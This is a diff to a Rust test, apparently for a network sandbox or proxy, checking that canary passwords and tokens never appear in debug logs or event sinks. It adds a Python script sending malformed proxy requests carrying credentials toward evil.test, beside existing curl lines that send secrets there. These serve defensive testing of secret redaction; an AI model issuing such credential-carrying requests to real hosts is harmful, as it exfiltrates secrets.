@@ -8,6 +8,19 @@ use serde_json::json;
 use super::harness::{Scratch, canary, run};
 use super::srt;
 
+/// Requests that cannot be judged, of which events show what was asked.
+const UNREADABLE: &str = r"
+import socket, sys
+password, token = sys.argv[1:]
+for line in ['GET http://u:%s@evil.test:99999/p?token=%s', 'CONNECT u:%s@evil.test:443?token=%s',
+             'GET http://u:%s@evil_.test,x/?t=%s', 'GET ftp://u:%s@evil.test/?t=%s',
+             'GET http://[u:%s@evil.test/?t=%s', 'GET /x:%s?t=%s', 'GET u:%s@evil.test/?t=%s']:
+    s = socket.create_connection(('127.0.0.1', 3128))
+    line = line % (password, token) + ' HTTP/1.1\r\nProxy-Authorization: Basic ' + token
+    s.sendall(line.encode() + b'\r\n\r\n')
+    s.recv(4096)
+";
+
 #[test]
 fn neither_a_debug_log_nor_any_sink_tells_a_secret() {
     let scratch = Scratch::new("canaries");
@@ -20,9 +33,9 @@ fn neither_a_debug_log_nor_any_sink_tells_a_secret() {
                   curl \"http://u:$1@evil.test:8765/p?token=$2\" -s; \
                   curl -s -x http://127.0.0.1:3128 -p \"https://u:$1@evil.test/?token=$2\"; \
                   curl -uu:$1 -s http://evil.test/; curl -HAuthorization:$3 -s http://evil.test/; \
-                  echo ran";
+                  python3 -c \"$5\" \"$1\" \"$2\"; echo ran";
     let words = [
-        "sh", "-c", script, "sh", &password, &token, &bearer, &argument,
+        "sh", "-c", script, "sh", &password, &token, &bearer, &argument, UNREADABLE,
     ];
     let listed = json!([
         { "type": "file", "path": file }, { "type": "syslog", "path": socket },
@@ -35,6 +48,10 @@ fn neither_a_debug_log_nor_any_sink_tells_a_secret() {
     assert!(ran.stdout.ends_with("ran\n"), "{}", ran.stdout);
     let events = fs::read_to_string(&file).expect("srt made it");
     assert!(events.matches("evil.test:").count() >= 4, "{events}");
+    assert!(
+        events.matches("net.request.malformed").count() >= 3,
+        "{events}"
+    );
     let mut buffer = vec![0; 1 << 16];
     let mut sent = String::new();
     while let Ok(len) = daemon.recv(&mut buffer) {
